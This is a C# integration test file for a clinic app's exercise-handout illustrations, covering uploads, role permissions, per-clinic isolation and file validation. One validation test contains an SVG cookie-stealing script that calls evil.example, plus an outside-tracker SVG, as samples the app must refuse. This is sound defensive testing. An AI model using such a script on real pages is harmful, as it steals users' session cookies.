using System.Security.Claims;
using System.Security.Cryptography;
using System.Text;
using Microsoft.EntityFrameworkCore;
using PtClinic.Application.Common.Results;
using PtClinic.Application.Features.Handouts;
using PtClinic.Application.Features.Handouts.Illustrations;
using PtClinic.Application.Features.Treatment;
using PtClinic.Domain.Common;
using PtClinic.Domain.Staff;
using PtClinic.Domain.Treatment;
using PtClinic.IntegrationTests.Features.Episodes;
using PtClinic.Tests.Shared;
using static PtClinic.IntegrationTests.Security.ScenarioClinic;

namespace PtClinic.IntegrationTests.Features.Handouts;

public sealed class HandoutIllustrationTests(AppFixture app) : IntegrationTest(app)
{
    private static readonly byte[] Jpeg = [0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 0x4A, 0x46, 0x49, 0x46];

    private TestClinic _clinic = default!;
    private ClaimsPrincipal _admin = default!;

    public override async ValueTask InitializeAsync()
    {
        await base.InitializeAsync();
        _clinic = await TestClinic.CreateAsync(App);
        _admin = await _clinic.AddStaffAsync("Sam Okafor", StaffRoles.Admin);
    }

    private static byte[] Svg(string body) => Encoding.UTF8.GetBytes($"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\">{body}</svg>");

    private async Task<IReadOnlyDictionary<string, HandoutImage>> ForClinicAsync(TestClinic clinic, params string[] codes)
    {
        await using var db = App.Database.CreateContext(new TestUser(Guid.CreateVersion7(), clinic.Id, [StaffRoles.Therapist]));
        return await db.ForClinicAsync(codes, CancellationToken.None);
    }

    [Fact]
    public async Task An_admins_upload_is_what_every_role_sees_and_the_list_says_who_uploaded_it()
    {
        (await App.SendAsync(_admin, new UploadIllustrationCommand(InterventionCatalog.GluteBridge, Png))).Ok();

        foreach (var reader in new[] { _clinic.Therapist, _clinic.Desk, _clinic.Manager, _admin })
        {
            var image = (await App.SendAsync(reader, new GetIllustrationQuery(InterventionCatalog.GluteBridge))).Ok();
            image.Content.ShouldBe(Png);
            image.ContentType.ShouldBe("image/png");
            image.UploadedAt.ShouldNotBeNull();
        }

        var items = (await App.SendAsync(_admin, new ListIllustrationsQuery())).Ok();
        var bridge = items.Single(i => i.Code == InterventionCatalog.GluteBridge);
        bridge.ShouldSatisfyAllConditions(
            b => b.Name.ShouldBe("Glute bridge"),
            b => b.Source.ShouldBe(IllustrationSource.Custom),
            b => b.UploadedBy.ShouldBe("Sam Okafor"),
            b => b.UploadedAt.ShouldNotBeNull(),
            b => b.IsRetired.ShouldBeFalse());
        items.Single(i => i.Code == InterventionCatalog.ColdTherapy).ShouldBe(
            new IllustrationItemDto(InterventionCatalog.ColdTherapy, "Cold therapy", false, IllustrationSource.Drawn, null, null));
    }

    [Fact]
    public async Task The_list_holds_every_home_program_item_retired_and_the_clinics_own_ones_too_and_nothing_only_the_clinician_does()
    {
        (await App.SendAsync(_admin, new RetireInterventionCommand(InterventionCatalog.YogaFlexibility))).Ok();
        var wallSit = (await App.SendAsync(_admin, new AddInterventionCommand(Exercise("Wall sit")))).Ok();

        var items = (await App.SendAsync(_admin, new ListIllustrationsQuery())).Ok();

        var homeProgram = InterventionCatalog.All.Where(i => i.Performer is Performer.Home or Performer.Both).Select(i => i.Code);
        items.Select(i => i.Code).ShouldBe([.. homeProgram, wallSit]);
        items.Single(i => i.Code == InterventionCatalog.YogaFlexibility).IsRetired.ShouldBeTrue();
        items.Single(i => i.Code == wallSit).Source.ShouldBe(IllustrationSource.None);
        items.ShouldNotContain(i => i.Code == InterventionCatalog.DryNeedling);
    }

    [Fact]
    public async Task Without_an_upload_every_role_reads_PtClinics_drawing()
    {
        var image = (await App.SendAsync(_clinic.Desk, new GetIllustrationQuery(InterventionCatalog.GluteBridge))).Ok();

        image.Content.ShouldBe(HandoutIllustrations.Default(InterventionCatalog.GluteBridge)!.Data);
        image.ContentType.ShouldBe("image/svg+xml");
        image.UploadedAt.ShouldBeNull();
    }

    [Fact]
    public async Task A_code_with_neither_an_upload_nor_a_drawing_is_not_found()
    {
        var wallSit = (await App.SendAsync(_admin, new AddInterventionCommand(Exercise("Wall sit")))).Ok();

        (await App.SendAsync(_clinic.Therapist, new GetIllustrationQuery("no-such-item"))).Failed(ErrorKind.NotFound);
        (await App.SendAsync(_clinic.Therapist, new GetIllustrationQuery(wallSit))).Failed(ErrorKind.NotFound);
        (await App.SendAsync(_clinic.Therapist, new GetIllustrationQuery(InterventionCatalog.DryNeedling))).Failed(ErrorKind.NotFound);
    }

    [Fact]
    public async Task A_new_upload_replaces_the_old_one_and_using_the_drawing_brings_it_back()
    {
        (await App.SendAsync(_admin, new UploadIllustrationCommand(InterventionCatalog.GluteBridge, Png))).Ok();
        (await App.SendAsync(_admin, new UploadIllustrationCommand(InterventionCatalog.GluteBridge, Svg("<circle cx=\"5\" cy=\"5\" r=\"4\"/>")))).Ok();

        (await App.SendAsync(_admin, new GetIllustrationQuery(InterventionCatalog.GluteBridge))).Ok().ContentType.ShouldBe("image/svg+xml");
        (await App.ReadAsync(db => db.ClinicIllustrations.IgnoreQueryFilters().CountAsync())).ShouldBe(1);

        (await App.SendAsync(_admin, new RemoveIllustrationCommand(InterventionCatalog.GluteBridge))).Ok();

        var back = (await App.SendAsync(_admin, new GetIllustrationQuery(InterventionCatalog.GluteBridge))).Ok();
        back.Content.ShouldBe(HandoutIllustrations.Default(InterventionCatalog.GluteBridge)!.Data);
        back.UploadedAt.ShouldBeNull();
        (await App.SendAsync(_admin, new ListIllustrationsQuery())).Ok()
            .Single(i => i.Code == InterventionCatalog.GluteBridge).Source.ShouldBe(IllustrationSource.Drawn);
        (await App.SendAsync(_admin, new RemoveIllustrationCommand(InterventionCatalog.GluteBridge))).Failed(ErrorKind.NotFound);
    }

    [Fact]
    public async Task The_handout_gets_the_clinics_upload_over_the_drawing_the_drawing_otherwise_and_nothing_for_a_code_with_neither()
    {
        var wallSit = (await App.SendAsync(_admin, new AddInterventionCommand(Exercise("Wall sit")))).Ok();
        var ownSit = (await App.SendAsync(_admin, new AddInterventionCommand(Exercise("Sit to stand")))).Ok();
        (await App.SendAsync(_admin, new UploadIllustrationCommand(InterventionCatalog.GluteBridge, Png))).Ok();
        (await App.SendAsync(_admin, new UploadIllustrationCommand(ownSit, Jpeg))).Ok();

        var images = await ForClinicAsync(_clinic, InterventionCatalog.GluteBridge, InterventionCatalog.ColdTherapy, wallSit, ownSit, InterventionCatalog.DryNeedling);

        images.Keys.ShouldBe([InterventionCatalog.GluteBridge, InterventionCatalog.ColdTherapy, ownSit], ignoreOrder: true);
        images[InterventionCatalog.GluteBridge].ShouldSatisfyAllConditions(
            i => i.Data.ShouldBe(Png),
            i => i.MediaType.ShouldBe("image/png"),
            i => i.Hash.ShouldBe(Convert.ToHexStringLower(SHA256.HashData(Png))));
        images[InterventionCatalog.ColdTherapy].ShouldBeSameAs(HandoutIllustrations.Default(InterventionCatalog.ColdTherapy));
        images[ownSit].MediaType.ShouldBe("image/jpeg");
        (await ForClinicAsync(_clinic)).ShouldBeEmpty();
    }

    [Fact]
    public async Task An_item_that_is_not_in_the_catalog_or_not_done_at_home_is_refused_saying_so()
    {
        var unknown = await App.SendAsync(_admin, new UploadIllustrationCommand("no-such-item", Png));
        var clinicianOnly = await App.SendAsync(_admin, new UploadIllustrationCommand(InterventionCatalog.DryNeedling, Png));
        var empty = await App.SendAsync(_admin, new UploadIllustrationCommand("", Png));

        unknown.Failed(ErrorKind.Validation).For("InterventionCode")
            .ShouldBe("The clinic's catalog has no item with this code. Choose one of its home-program items.");
        clinicianOnly.Failed(ErrorKind.Validation).For("InterventionCode")
            .ShouldBe("Dry needling is done by the clinician, not at home, so no handout shows a picture of it. Choose a home-program item.");
        empty.Failed(ErrorKind.Validation).For("InterventionCode").ShouldBe("Say which home-program item the illustration is for.");
        (await App.ReadAsync(db => db.ClinicIllustrations.IgnoreQueryFilters().CountAsync())).ShouldBe(0);
    }

    public static TheoryData<string, string> BadFiles() => new()
    {
        { "exe renamed to png", ImageContent.Illustration.NotAnImage },
        { "svg with script", "The SVG illustration contains a <script> element, which could run code. Save the illustration without it." },
        { "svg with outside image", "The SVG illustration refers to something outside the file (a link, an image or a style sheet). Save it with everything embedded." },
        { "2 MB and 1 byte", "The illustration must be at most 2 MB (2,048 KB); this file is 2,049 KB. Save it smaller and try again." },
        { "empty", "Choose an image file for the illustration." },
    };

    [Theory]
    [MemberData(nameof(BadFiles))]
    public async Task A_file_that_is_not_a_safe_image_is_refused_saying_why_and_the_picture_there_was_stays(string bad, string message)
    {
        (await App.SendAsync(_admin, new UploadIllustrationCommand(InterventionCatalog.GluteBridge, Png))).Ok();
        var content = bad switch
        {
            "exe renamed to png" => "MZ\0\0This program cannot be run in DOS mode."u8.ToArray(),
            "svg with script" => Svg("<script>fetch('https://evil.example/?c=' + document.cookie)</script>"),
            "svg with outside image" => Svg("<image href=\"https://tracker.example/pixel.png\" width=\"1\" height=\"1\"/>"),
            "2 MB and 1 byte" => Oversized(),
            "empty" => [],
            _ => throw new ArgumentOutOfRangeException(nameof(bad)),
        };

        var replaced = await App.SendAsync(_admin, new UploadIllustrationCommand(InterventionCatalog.GluteBridge, content));
        var first = await App.SendAsync(_admin, new UploadIllustrationCommand(InterventionCatalog.ColdTherapy, content));

        replaced.Failed(ErrorKind.Validation).For("Image").ShouldBe(message);
        first.Failed(ErrorKind.Validation).For("Image").ShouldBe(message);
        (await App.SendAsync(_admin, new GetIllustrationQuery(InterventionCatalog.GluteBridge))).Ok().Content.ShouldBe(Png);
        (await App.SendAsync(_admin, new GetIllustrationQuery(InterventionCatalog.ColdTherapy))).Ok().UploadedAt.ShouldBeNull();
    }

    [Fact]
    public async Task Another_clinic_neither_sees_nor_replaces_this_clinics_picture()
    {
        var other = await TestClinic.CreateAsync(App, "Southside Physio");
        var otherAdmin = await other.AddStaffAsync("Ada Brown", StaffRoles.Admin);
        (await App.SendAsync(_admin, new UploadIllustrationCommand(InterventionCatalog.GluteBridge, Png))).Ok();

        // Theirs: still PtClinic's drawing, in every read.
        (await App.SendAsync(other.Therapist, new GetIllustrationQuery(InterventionCatalog.GluteBridge))).Ok().UploadedAt.ShouldBeNull();
        (await App.SendAsync(otherAdmin, new ListIllustrationsQuery())).Ok()
            .Single(i => i.Code == InterventionCatalog.GluteBridge).Source.ShouldBe(IllustrationSource.Drawn);
        (await ForClinicAsync(other, InterventionCatalog.GluteBridge))[InterventionCatalog.GluteBridge]
            .ShouldBeSameAs(HandoutIllustrations.Default(InterventionCatalog.GluteBridge));

        // Their admin's upload and removal are theirs alone.
        (await App.SendAsync(otherAdmin, new RemoveIllustrationCommand(InterventionCatalog.GluteBridge))).Failed(ErrorKind.NotFound);
        (await App.SendAsync(otherAdmin, new UploadIllustrationCommand(InterventionCatalog.GluteBridge, Jpeg))).Ok();

        (await App.SendAsync(_clinic.Therapist, new GetIllustrationQuery(InterventionCatalog.GluteBridge))).Ok().Content.ShouldBe(Png);
        (await App.SendAsync(other.Therapist, new GetIllustrationQuery(InterventionCatalog.GluteBridge))).Ok().Content.ShouldBe(Jpeg);
        (await ForClinicAsync(_clinic, InterventionCatalog.GluteBridge))[InterventionCatalog.GluteBridge].Data.ShouldBe(Png);
        (await App.ReadAsync(db => db.ClinicIllustrations.IgnoreQueryFilters().CountAsync())).ShouldBe(2);
    }

    [Fact]
    public async Task A_clinics_own_home_exercise_gets_a_picture_and_removing_it_leaves_none()
    {
        var wallSit = (await App.SendAsync(_admin, new AddInterventionCommand(Exercise("Wall sit")))).Ok();

        (await App.SendAsync(_admin, new UploadIllustrationCommand(wallSit, Png))).Ok();
        (await App.SendAsync(_clinic.Therapist, new GetIllustrationQuery(wallSit))).Ok().Content.ShouldBe(Png);

        (await App.SendAsync(_admin, new RemoveIllustrationCommand(wallSit))).Ok();
        (await App.SendAsync(_clinic.Therapist, new GetIllustrationQuery(wallSit))).Failed(ErrorKind.NotFound);
    }

    [Fact]
    public async Task Only_an_admin_uploads_removes_or_lists_and_a_refused_one_changes_nothing()
    {
        (await App.SendAsync(_admin, new UploadIllustrationCommand(InterventionCatalog.GluteBridge, Png))).Ok();

        foreach (var user in new[] { _clinic.Therapist, _clinic.Desk, _clinic.Manager })
        {
            (await App.SendAsync(user, new UploadIllustrationCommand(InterventionCatalog.GluteBridge, Jpeg))).Failed(ErrorKind.Forbidden);
            (await App.SendAsync(user, new RemoveIllustrationCommand(InterventionCatalog.GluteBridge))).Failed(ErrorKind.Forbidden);
            (await App.SendAsync(user, new ListIllustrationsQuery())).Failed(ErrorKind.Forbidden);
        }

        (await App.SendAsync(_clinic.Desk, new GetIllustrationQuery(InterventionCatalog.GluteBridge))).Ok().Content.ShouldBe(Png);
    }

    private static byte[] Oversized()
    {
        var png = new byte[ImageContent.MaxBytes + 1];
        Png.CopyTo(png, 0);
        return png;
    }
}
